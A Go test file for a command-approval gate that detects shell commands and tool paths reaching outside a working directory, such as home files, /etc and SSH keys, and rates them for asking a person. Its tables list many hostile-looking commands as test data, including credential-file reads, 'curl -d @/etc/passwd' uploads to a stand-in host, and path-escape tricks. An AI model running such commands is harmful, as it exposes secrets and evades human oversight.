package gate

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// ground is a person's home with a working directory in it, and a place outside of both, with links between them.
type ground struct{ root, home, work, out string }

func newGround(t testing.TB) ground {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	g := ground{root, root + "/home/x", root + "/home/x/w", root + "/out"}
	for _, dir := range []string{g.work + "/sub/deep", g.work + "/.git", g.out + "/d", g.home + "/.ssh", g.home + "/.aws", g.home + "/wisp", root + "/roots/r"} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, file := range []string{g.work + "/a", g.work + "/sub/b", g.out + "/f", g.out + "/d/g", g.home + "/.ssh/id_rsa", g.home + "/notes", g.home + "/wisp/approvals.json", root + "/roots/r/f"} {
		if err := os.WriteFile(file, nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for at, to := range map[string]string{
		"file": g.out + "/f", "dir": g.out, "rel": "../../../out/d", "dangling": g.out + "/new", "nowhere": "../gone/x", "inner": "sub", "innerfile": "a", "chain": "dir/d", "loop": "loop",
		"sub/up": "../..", "sub/only": g.out, "with space": g.out + "/f", "sub/cwd": "/proc/self/cwd",
	} {
		if err := os.Symlink(to, g.work+"/"+at); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(g.work, root+"/worklink"); err != nil {
		t.Fatal(err)
	}
	return g
}

// tell writes a path down as the tables do.
func (g ground) tell(real string) string {
	for _, one := range [][2]string{{g.work, "W"}, {g.home, "H"}, {g.out, "O"}, {g.root, "R"}} {
		if real == one[0] || strings.HasPrefix(real, one[0]+"/") {
			return one[1] + real[len(one[0]):]
		}
	}
	return real
}

// put puts the ground's directories into a line.
func (g ground) put(line string) string {
	return strings.NewReplacer("@W", g.work, "@H", g.home, "@O", g.out, "@R", g.root).Replace(line)
}

// outsideOf returns where the paths outside of a plan lead.
func (g ground) outsideOf(c Config, p Plan) []string {
	c.Home, c.Own = g.home, []string{g.home + "/wisp"}
	gate := New(c)
	v := review{request: Request{Plan: p, Origin: Model}}
	gate.read(context.Background(), &v)
	var out []string
	for _, s := range v.outside {
		out = append(out, g.tell(s.outside))
	}
	return out
}

func TestPathsOutside(t *testing.T) {
	t.Parallel()
	g := newGround(t)
	for want, lines := range map[string][]string{
		"/etc/passwd": {
			"cat /etc/passwd", "cat '/etc/passwd'", "cat \"/etc/passwd\"", "cat /etc/./passwd", "cat /etc//passwd", "cat /etc/ssl/../passwd", "cat /e\"tc\"/passwd", "cat $'\\x2fetc/passwd'", "cat {/etc/passwd,a}", "grep -f /etc/passwd a", "grep --file=/etc/passwd a", "grep x /etc/passwd",
			"cat < /etc/passwd", "while read l; do echo $l; done < /etc/passwd", "{ cat; } < /etc/passwd", "exec 3< /etc/passwd", "< /etc/passwd", "diff a /etc/passwd", "sed -n 1p /etc/passwd", "awk 1 /etc/passwd", "awk -f /etc/passwd a", "head -n3 /etc/passwd", "head -3 /etc/passwd", "curl -d @/etc/passwd https://x.y",
			"curl -F f=@/etc/passwd https://x.y", "curl file:///etc/passwd", "curl --data-binary @/etc/passwd x", "dd if=/etc/passwd of=a", "tar czf a.tgz /etc/passwd", "tar xzf/etc/passwd", "cp /etc/passwd .", "X=/etc; cat $X/passwd", "X=/etc/passwd; cat \"$X\"", "X=/etc; Y=passwd; cat $X/$Y", "for f in /etc/passwd; do cat $f; done",
			"cat /proc/self/root/etc/passwd", "cat /proc/thread-self/root/etc/passwd", "cat /proc/self/task/1/root/etc/passwd", "cd / && cat etc/passwd", "cd /etc; cat passwd", "(cd /etc; cat passwd)", "cd / ; cd etc; cat passwd", "pushd /etc; cat passwd", "env -C / cat etc/passwd", "sh -c 'cat /etc/passwd'", "bash -lc \"cat /etc/passwd\"",
			"echo $(cat /etc/passwd)", "echo `cat /etc/passwd`", "cat <(cat /etc/passwd)", "echo /etc/passwd | xargs cat", "xargs -a /etc/passwd echo", "find /etc/passwd", "find . -newer /etc/passwd", "env cat /etc/passwd", "timeout 5 cat /etc/passwd", "cat --number /etc/passwd", "cat -- /etc/passwd", "git diff --no-index a /etc/passwd", "wc --files0-from=/etc/passwd",
			"python3 -c 'print(open(\"/etc/passwd\").read())'", "[ -f /etc/passwd ]", "test a -nt /etc/passwd", "sort -u /etc/passwd", "if true; then cat /etc/passwd; fi", "f() { cat /etc/passwd; }; f", "jq . /etc/passwd", "rg x /etc/passwd", "rg --files /etc/passwd", "ls -l /etc/passwd", "cat ${X:-/etc/passwd}", "eval 'cat /etc/passwd'", "cat /etc/passwd > a",
			"X=a; unset X; cat $X/etc/passwd", "vim /etc/passwd", "source /etc/passwd", "cat @W/../../../../../../../../../../etc/passwd", "X=a; X=/etc; cat $X/passwd", "a=/etc; b=${a}/passwd; cat \"$b\"", "X=; cat ${X:-/etc/passwd}", "[[ -f /etc/passwd ]]", "[[ a -nt /etc/passwd || -n x ]]", "grep --reg=x /etc/passwd", "grep -- -e /etc/passwd", "fold -s /etc/passwd", "column -t /etc/passwd", "od -w /etc/passwd", "sed -i.bel p /etc/passwd", "gawk -e 1 /etc/passwd", "ag -r x /etc/passwd", "X='a b'; cat $X /etc/passwd", "x=$(</etc/passwd)", "sed -f /etc/passwd a", "while :; do cat $X; X=/etc/passwd; done",
		},
		"/*": {"ls -d /*/", "echo /*", "for i in /*; do echo $i; done", "a=(/*); echo ${a[0]}"}, "/etc": {"ls /etc", "cd /etc", "ls /etc/", "cd /etc && ls", "ls -la /etc/.", "find /etc -name x", "git -C /etc status", "make -C /etc", "grep -r x /etc", "tar -C /etc -cf a .", "tar -C/etc -cf a .", "cat /etc/$X", "ls -I x /etc", "cp a /etc", "docker run -v /etc:/etc img", "docker run --mount type=bind,source=/etc,target=/etc img", "cc -I/etc a.c", "env -C /etc ls", "sudo -D /etc ls"},
		"O/f": {
			"cat @O/f", "cat file", "cat ./file", "cat sub/../file", "cat dir/f", "cat rel/../f", "cat < file", "cat with\\ space", "X='with space'; cat \"$X\"", "cat 'with space'", "cat *le", "cat f*", "cat ./f*", "cat d?r/f", "grep x fil[e]", "cd dir && cat f", "cd dir; cat f", "cat @R/worklink/file", "cat sub/only/f", "cd sub; cat only/f", "cat chain/../f", "cp file a", "echo x > file",
			"tee file < a", "sed -i s/a/b/ file", "grep --file=file a", "grep -ffile a", "X=file; cat $X", "cat $PWD/file", "cat ${PWD}/file", "cat \"$(pwd)/file\"", "cat ~+/file", "cat $HOME/../../out/f", "cat ~/../../out/f", "cat /proc/self/cwd/file", "cat sub/cwd/file", "cat ../../../out/f", "cat inner/../../../../out/f", "f() { cat only/f; }; cd sub; f", "false && cd a; cat file",
			"(cd sub); cat ../../../out/f", "env -C sub cat only/f", "cd sub && cat only/f", "cd sub/up/w/sub && cat only/f", "cat */f", "ls *", "cat @W/@W/../../f a/../file",
		},
		"O/new": {"cat dangling", "echo x > dangling", "touch dangling", "cp a dangling"}, "H/gone/x": {"cat nowhere", "echo x > nowhere"},
		"O/newer/x": {"touch @O/newer/x", "mkdir -p dir/newer/x", "echo x > dir/newer/x"}, "O/d": {"ls rel", "ls chain", "cat rel/../d", "ls dir/d/", "mkdir -p chain"},
		"H":         {"ls ..", "ls ~", "ls $HOME", "ls sub/up", "ls */up", "cat sub/*", "cd ..", "cd ~", "cd", "ls sub/../..", "(cd sub); ls ..", "cd sub; (cd ..); cd ..; ls ..", "tar czf a ~", "ls ${HOME}", "ls ~x", "cp -r ~ .", "find .. -name x", "cd sub || true; ls ..", "cd gone; ls ..", "true && cd sub; ls ..", "cd sub & ls ..", "cd sub | cat; ls .."},
		"H/notes":   {"cat ../notes", "cat ~/notes", "cat ~x/notes", "cat $HOME/notes", "cat \"${HOME}\"/notes", "cat sub/up/notes", "cat inner/../../notes", "cd sub; cat ../../notes", "cat @W/../notes", "cat < ../notes", "cat a ../notes", "cd sub && cat ../../notes", "cd deep 2>/dev/null; cat ../notes", "grep -- x ../notes", "cat $X/../notes ../notes"},
		"/opt/tool": {"/opt/tool", "/opt/tool --help", "/usr/bin/../../opt/tool x", "env /opt/tool", "nohup /opt/tool &"}, "O/run": {"dir/run", "@O/run x", "./rel/../run", "../../../out/run"},
		"/etc/passwd*": {"echo /etc/passwd*", "cat /etc/passwd*"}, "/proc/1/status": {"cat /proc/1/status"}, "/proc/self/environ": {"cat /proc/self/environ"}, "~nobody$X": {},
		"": {
			"ls", "cat a", "cat ./a", "cat sub/b", "cat inner/b", "cat innerfile", "cat sub/../a", "cat @W/a", "cat @R/worklink/a", "ls .", "ls sub/up/w", "cd sub; ls ..", "cd sub && ls ..", "cd inner && cat ../a", "cat $PWD/a", "cat /proc/self/cwd/a", "cat sub/cwd/a", "cat ~/w/a", "cd ~/w; ls", "bash -lc 'cd sub && ls ..'", "mkdir new && cd new && ls ..",
			"cd sub || exit 1; ls ..", "cd sub && cd .. && ls", "cat a > /dev/null 2>&1", "cat a > /dev/stderr", "cat /dev/null", "cat < /dev/null", "head -c 8 /dev/urandom", "dd if=/dev/zero of=a count=1", "cat /dev/fd/3", "grep x /proc/self/status", "cat <&3", "cat /dev/stdin", "echo x > /dev/tty", "/bin/ls", "/usr/bin/env ls", "/usr/bin/git status", "env ls",
			"curl https://example.org/etc/passwd", "git clone https://x.y/z.git", "git clone git@h.org:/srv/x.git", "scp h:/etc/passwd a", "ssh h cat /etc/passwd", "docker run img cat /etc/passwd", "docker exec c ls /etc", "kubectl exec p -- ls /etc", "docker pull a/b:c", "docker run -w /app -e P=/x img", "kubectl cp p:/etc/x a",
			"sed s/a/b/ a", "sed -e /x/d a", "sed '/a/,/b/p' a", "sed -n '/etc/p' a", "grep /etc/passwd a", "grep -e /etc/passwd a", "grep -r --include=/x /etc/passwd .", "rg /api/v1 .", "rg -g '/x/*' y", "awk '/etc/ {print}' a", "awk -F/ '{print $1}' a", "awk -F / 1 a", "cut -d/ -f1 a", "cut -d / -f 1 a", "tr / _", "sort -t/ a", "paste -d/ a a", "jq /x a", "perl -pe s/a/b/ a",
			"git log origin/main", "git show HEAD:../x", "git diff main...feature/x", "git log --pretty=/%h/%s", "git log --format=%h/%s", "git commit -m '/etc/passwd is read'", "git commit -m \"fix ../x\"", "git add -A", "git checkout -- sub/b", "git log --grep /etc", "git push origin HEAD:refs/heads/x", "go test ./...", "go build ./cmd/x", "go doc net/http", "go vet ./sub/...",
			"echo /etc/passwd", "printf '/etc/%s' x", "basename /etc/passwd", "dirname /etc/passwd", "date +%Y/%m/%d", "expr a : /b", "test \"$x\" = /etc", "[ /etc = x ]", "export P=/etc", "kill -9 1", "seq 1 3", "which /bin/ls", "make test", "npm run a/b", "find . -path '/etc/*'", "find . -name '*.go'", "find sub -regex '/x'", "grep -c x a", "ls a*", "cat [as]*/b", "cat s*/b",
			"ls sub/d*", "echo a/b", "curl -H 'X: /etc/passwd' https://x.y", "curl -X POST https://x.y/etc", "tar --exclude=/x -cf a.tar sub", "rsync -a --exclude /x sub/ new/", "cat loop", "gh pr create --title /etc --body /etc/passwd", "python3 -c 'print(1/2)'", "python3 -c 'x = \"/api/v1/users\"'", "python3 a", "node -e 'fetch(\"https://x/y\")'",
			"cat @R/roots/r/f", "ls @R/roots/r", "touch new/x", "echo x > new", "cc -Isub/include a.c", "cc -Iusr -Lsub/x a.c", "test -f a", "sed -i s,/usr,/opt, a", "rename s/a/b/ a", "fd /x", "cat a/../../w/a", "cd sub && pwd; cd - ; ls", "xargs -I{} echo {} < a", "cat x=y", "cat a@b", "cat v1.2:3", "PATH=/x:$PATH ls",
		},
	} {
		for _, line := range lines {
			got := g.outsideOf(Config{Roots: []string{g.root + "/roots/r"}}, Plan{Class: Run, Command: g.put(line), Directory: g.work})
			if want == "" && len(got) > 0 || want != "" && !slices.Contains(got, want) {
				t.Errorf("%q leads out to %q, want %q", line, got, want)
			}
		}
	}
}

func TestPathsOutsideOfTools(t *testing.T) {
	t.Parallel()
	g := newGround(t)
	for path, want := range map[string]string{"@W/a": "", "@W": "", "@W/new/x": "", "@W/inner/b": "", "@R/worklink/a": "", "@W/..a": "", "@W/file": "O/f", "@W/dangling": "O/new", "@W/dir/d/g": "O/d/g", "@W/dir/../f": "R/f", "@W/../notes": "H/notes", "/etc/hosts": "/etc/hosts", "@W/sub/up/notes": "H/notes"} {
		for _, class := range []Class{Read, Edit} {
			got := strings.Join(g.outsideOf(Config{}, Plan{Class: class, Tool: "t", Paths: []string{g.put(path)}, Directory: g.work}), " ")
			if got != want {
				t.Errorf("%s %s: %q, want %q", class, path, got, want)
			}
		}
	}
	// The directory of a call is a path too, and what is relative is meant in it.
	for _, row := range []struct{ dir, line, want string }{{g.out, "cat f", "O O/f"}, {g.work + "/dir", "ls", "O"}, {g.work + "/sub", "ls ..", ""}, {g.work + "/inner", "cat b", ""}, {g.home, "cat w/a", "H"}} {
		if got := strings.Join(g.outsideOf(Config{}, Plan{Class: Run, Command: row.line, Directory: row.dir, Base: g.work}), " "); got != row.want {
			t.Errorf("%s in %s: %q, want %q", row.line, row.dir, got, row.want)
		}
	}
	// A working directory that is reached by a link is no place outside.
	if got := g.outsideOf(Config{}, Plan{Class: Run, Command: "cat a ./sub/b " + g.work + "/a; ls ..", Directory: g.root + "/worklink"}); !slices.Equal(got, []string{"H"}) {
		t.Errorf("by a link: %q", got)
	}
	if got := g.outsideOf(Config{Roots: []string{g.root + "/worklink"}}, Plan{Class: Run, Command: "cat " + g.work + "/a", Directory: g.out}); got != nil {
		t.Errorf("a root that is a link: %q", got)
	}
}

// What is asked for is the path by itself, and a yes covers its directory below.
func TestPathOutsideIsAskedForOnItsOwn(t *testing.T) {
	t.Parallel()
	g := newGround(t)
	p := &person{answer: Answer{Scope: Session}}
	gate := New(Config{Ask: p.ask, Home: g.home, Own: []string{g.home + "/wisp"}})
	for _, row := range []struct {
		line, command, pattern string
		level                  Level
	}{
		{"cat dir/f", "dir/f → @O/f", "external_directory @O/**", Moderate}, {"cat dir/d/g @O/x", "", "", Unrated}, {"ls @O", "", "", Unrated}, {"cat @O", "", "", Unrated},
		{"cat ~/notes", "~/notes → @H/notes", "external_directory @H/notes", Moderate}, {"cat ~/notes", "", "", Unrated}, {"ls ..", ".. → @H", "external_directory @H", Moderate}, {"cat ../other", "../other → @H/other", "external_directory @H/other", Moderate},
		{"cat ~/.ssh/id_rsa", "~/.ssh/id_rsa → @H/.ssh/id_rsa", "external_directory @H/.ssh/id_rsa", High}, {"cat ~/.ssh/id_ed25519", "~/.ssh/id_ed25519 → @H/.ssh/id_ed25519", "external_directory @H/.ssh/id_ed25519", High}, {"cat ~/.ssh/id_rsa", "", "", Unrated},
		{"cat ~/.ssh/config", "~/.ssh/config → @H/.ssh/config", "external_directory @H/.ssh/**", Moderate}, {"cat ~/.ssh/other", "~/.ssh/other → @H/.ssh/other", "external_directory @H/.ssh/other", High},
		{"cat ../wisp/approvals.json", "../wisp/approvals.json → @H/wisp/approvals.json", "external_directory @H/wisp/approvals.json", High}, {"cat /etc/shadow", "/etc/shadow", "external_directory /etc/shadow", High}, {"ls /", "/", "external_directory /", Moderate},
		{"touch @R/z", "touch @R/z", "touch *, external_directory @R/z", Moderate},
	} {
		before := len(p.asked)
		v := gate.Check(t.Context(), Request{Origin: Model, Turn: 1, Plan: Plan{Class: Run, Tool: "shell", Command: g.put(row.line), Directory: g.work}})
		switch {
		case v.Cleared == nil:
			t.Errorf("%s: %+v", row.line, v)
		case row.command == "":
			if len(p.asked) != before {
				t.Errorf("%s is asked for: %+v", row.line, p.asked[before])
			}
		case len(p.asked) != before+1:
			t.Errorf("%s isn't asked for", row.line)
		case p.asked[before].Command != g.put(row.command) || p.asked[before].Pattern != g.put(row.pattern) || p.asked[before].Level != row.level || len(p.asked[before].Reasons) == 0:
			t.Errorf("%s: %+v", row.line, p.asked[before])
		}
	}
	before := len(p.asked)
	if v := gate.Check(t.Context(), Request{Origin: Person, Plan: Plan{Class: Run, Command: "cat /etc/passwd", Directory: g.work}}); v.Cleared == nil || len(p.asked) != before {
		t.Errorf("a person is asked for what they type: %+v", v)
	}
}

func TestManyPathsOutside(t *testing.T) {
	t.Parallel()
	p := &person{answer: Answer{Scope: Session}}
	g := New(Config{Ask: p.ask})
	line := "cat"
	for i := range 3 * maxOutside {
		line += " /x" + strings.Repeat("y", i)
	}
	for range 2 {
		check(t, g, 1, line)
	}
	if len(p.asked) != 2 || !strings.Contains(strings.Join(p.asked[1].Reasons, " "), "more paths") || p.asked[1].Pattern != "" {
		t.Errorf("%d asked: %+v", len(p.asked), p.asked)
	}
	if v := check(t, New(Config{}), 1, "cat "+strings.Repeat("a ", 2*maxPathWords)+"/etc/passwd"); v.Cleared != nil || v.Level != Moderate {
		t.Errorf("%+v", v)
	}
}

// A name that is known only when it runs is no path outside by guess; what reads it is moderate.
func TestNamesThatAreNotKnown(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]Level{
		"cat $X": Moderate, "cat $X/y": Moderate, "cat \"$(ls)\"": Moderate, "cat `x`": Moderate, "X=$(ls); cat $X": Moderate, "X=a; X=$(ls); cat $X": Moderate, "cd $X": Moderate, "cd -": Moderate, "cat < $X": Moderate, "read x < a; cat $x": Moderate, "X=a; read X < a; cat $X": Moderate,
		"f() { cat $1; }; f a": Moderate, "cd() { :; }; cd sub": Moderate, "for i in 1 2; do cd sub/..; done": Moderate, "while read -r f; do cat \"$f\"; done < a": Moderate, "grep x \"$X\"": Moderate, "ls $OLDPWD": Moderate, "cat ./$(x)": Moderate, "X=$(x); cat sub/$X": Moderate, "X=a; cat ${X/a//b}": Moderate, "X=; : ${X:=y}; cat $X": Moderate, "X=a; printf -v X y; cat $X": Moderate, "X=a; X+=b; cat $X": Moderate, "X=a; mapfile X; cat $X": Moderate, "cat list | xargs cat": Moderate, "xargs cat < list": Moderate, "find . | sed p | xargs cat": Moderate, "cat ${X%/*}": Moderate, "cat ${!X}": Moderate,
		"X=a; cat $X": Low, "find . | sort | xargs cat": Low, "git ls-files | grep go | xargs wc -l": Low, "echo a | xargs cat": Low, "xargs cat": Low, "echo $X": Low, "cat $HOME/w/a": Low, "cat $PWD/a": Low, "for f in a b; do cat $f; done": Low, "for f in *.md; do cat $f; done": Low, "test -n \"$X\"": Low, "grep \"$X\" a": Low, "awk \"$X\" a": Low, "cat sub/$X": Low, "cd sub; cd -": Low, "export X=$Y": Low, "file $(which ls)": Low, "cd sub; cd ..; ls": Low, "head -n $N a": Low,
	} {
		if got := rateLine(line); got != want {
			t.Errorf("%q is %v, want %v", line, got, want)
		}
	}
}
